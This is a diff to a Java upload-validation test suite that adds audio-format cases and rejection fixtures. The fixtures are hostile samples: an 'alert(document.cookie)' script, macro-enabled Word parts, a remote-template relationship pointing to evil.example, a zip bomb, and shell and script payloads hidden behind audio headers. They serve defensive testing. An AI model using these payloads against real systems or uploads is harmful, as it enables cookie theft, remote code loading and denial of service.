@@ -51,6 +51,9 @@ class UploadTests {
                 arguments("code.js", utf8("alert(document.cookie)\n"), "code.js.txt", "text/plain"),
                 arguments("录音.mp3", Samples.mp3(), "录音.mp3", "audio/mpeg"),
                 arguments("录音.m4a", Samples.mp4("M4A "), "录音.m4a", "audio/mp4"),
+                arguments("录音.amr", Samples.amr(), "录音.amr", "audio/amr"),
+                arguments("录音.aac", Samples.aac(), "录音.aac", "audio/aac"),
+                arguments("录音.wav", Samples.wav(), "录音.wav", "audio/wav"),
                 arguments("现场.mp4", Samples.mp4("mp42"), "现场.mp4", "video/mp4"),
                 arguments("现场.mp4", Samples.mp4("isom"), "现场.mp4", "video/mp4"),
                 arguments("IMG_1.MOV", Samples.mp4("qt  "), "IMG_1.MOV", "video/quicktime"));
@@ -93,7 +96,12 @@ class UploadTests {
                 arguments("m.docm", Samples.with(word, "word/vbaProject.bin", new byte[8]), Reason.MACROS),
                 arguments(
                         "m.docx",
-                        Samples.with(word, "[Content_Types].xml", utf8("word.document.macroEnabled.main+xml")),
+                        Samples.with(
+                                word,
+                                "[Content_Types].xml",
+                                utf8(
+                                        "<Types><Default Extension=\"xml\""
+                                            + " ContentType=\"application/vnd.ms-word.document.macroEnabled.main+xml\"/></Types>")),
                         Reason.MACROS),
                 arguments("x.docx", Samples.with(word, "word/activeX/activeX1.bin", new byte[8]), Reason.MACROS),
                 arguments(
@@ -101,9 +109,8 @@ class UploadTests {
                         Samples.with(
                                 word,
                                 "word/_rels/settings.xml.rels",
-                                utf8(
-                                        "<Relationship Type=\"http://…/attachedTemplate\" Target=\"http://evil.example/t.dotm\""
-                                                + " TargetMode=\"External\"/>")),
+                                utf8("<Relationship Type=\"http://…/attachedTemplate\""
+                                        + " Target=\"http://evil.example/t.dotm\" TargetMode=\"External\"/>")),
                         Reason.MACROS),
                 arguments("o.docx", Samples.with(word, "word/embeddings/oleObject1.bin", new byte[8]), Reason.EMBEDDED),
                 arguments("bomb.docx", Samples.bomb(), Reason.UNPACKS_TOO_LARGE),
@@ -112,6 +119,9 @@ class UploadTests {
                         "two.docx",
                         Samples.join(Samples.zip(word), Samples.zip(Samples.excelEntries())),
                         Reason.DAMAGED),
+                arguments("run.amr", Samples.join(utf8("#!AMR\n"), utf8("#!/bin/sh\n")), Reason.TYPE),
+                arguments("half.aac", Samples.join(Samples.aac(), utf8("<script>x()</script>")), Reason.TYPE),
+                arguments("empty.wav", Samples.slice(Samples.wav(), 0, 36), Reason.TYPE),
                 arguments("huge.png", Samples.hugePng(50_000, 50_000), Reason.TOO_MANY_PIXELS),
                 arguments("huge.png", Samples.hugePng(Integer.MAX_VALUE, Integer.MAX_VALUE), Reason.TOO_MANY_PIXELS),
                 arguments("short.png", Samples.hugePng(4_000, 4_000), Reason.DAMAGED),
